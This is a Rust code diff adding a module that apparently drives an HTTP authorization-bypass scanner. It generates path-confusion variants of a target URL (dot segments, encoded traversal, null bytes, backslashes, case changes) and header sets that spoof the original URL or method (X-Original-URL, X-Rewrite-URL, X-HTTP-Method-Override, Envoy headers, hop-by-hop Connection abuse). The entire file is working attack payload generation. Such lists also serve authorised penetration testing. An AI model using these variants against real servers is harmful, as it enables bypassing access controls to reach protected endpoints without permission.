@@ -1,0 +1,88 @@
+//! What is tried: calls, other spellings of them, and headers that lie.
+
+/// A target of a template, with this value for each parameter.
+pub(super) fn concrete(template: &str, value: &str) -> String {
+    let segments = template.split('/');
+    let filled = segments.map(|segment| {
+        if segment.starts_with('{') {
+            value
+        } else {
+            segment
+        }
+    });
+    filled.collect::<Vec<_>>().join("/")
+}
+
+/// Other spellings of a target, which some server takes for it.
+pub(super) fn spellings(target: &str) -> Vec<String> {
+    let (folder, last) = target.rsplit_once('/').unwrap_or_default();
+    let mut spellings: Vec<_> = [
+        "/",
+        "//",
+        "/.",
+        "/..",
+        "?",
+        "?x=1",
+        "#x",
+        ";x",
+        "%20",
+        "%00",
+        "%2f",
+        "%2e",
+        "\\",
+        "/%2e%2e/x",
+    ]
+    .map(|end| format!("{target}{end}"))
+    .into();
+    spellings.extend(
+        [
+            "/",
+            "/.",
+            "/x/..",
+            "/%2e",
+            "/x/%2e%2e",
+            "/x\\..",
+            "http://localhost",
+        ]
+        .map(|start| format!("{start}{target}")),
+    );
+    spellings.extend(
+        ["/", "/./", "/x/../", "%2f", "\\", "/%2e/"]
+            .map(|middle| format!("{folder}{middle}{last}")),
+    );
+    let escaped = last
+        .bytes()
+        .map(|byte| format!("%{byte:02x}"))
+        .collect::<String>();
+    spellings.extend([
+        format!("{folder}/{escaped}"),
+        format!("{folder}/{}", last.to_uppercase()),
+    ]);
+    spellings
+}
+
+/// Headers in which some server or proxy reads another method or target, alone and together.
+pub(super) fn lies<'l>(method: &'l str, target: &'l str) -> Vec<Vec<(&'static str, &'l str)>> {
+    let alone = [
+        ("X-Original-URI", target),
+        ("X_Original_URI", target),
+        ("X-Original-URL", target),
+        ("X-Original-Method", method),
+        ("X-Rewrite-URL", target),
+        ("X-Forwarded-Uri", target),
+        ("X_Forwarded_Uri", target),
+        ("X-Forwarded-Method", method),
+        ("X-Forwarded-Prefix", target),
+        ("X-Envoy-Original-Path", target),
+        ("X-Envoy-Original-Method", method),
+        ("X-HTTP-Method-Override", method),
+        ("Connection", "close, X-Original-URI, X-Forwarded-Uri"),
+        ("Connection", "close, Authorization"),
+    ];
+    let together = [
+        vec![("X-Original-URI", target), ("X-Original-Method", method)],
+        vec![("X-Forwarded-Uri", target), ("X-Forwarded-Method", method)],
+    ];
+    let alone = alone.into_iter().map(|lie| vec![lie]);
+    alone.chain(together).collect()
+}
